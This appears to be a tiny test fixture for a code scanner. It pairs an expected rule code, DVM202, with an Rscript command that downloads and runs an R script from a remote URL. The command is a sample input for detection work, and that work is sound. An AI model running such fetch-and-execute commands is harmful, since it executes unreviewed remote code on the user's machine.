# expect: DVM202
Rscript -e 'source("https://example.org/a.R")'
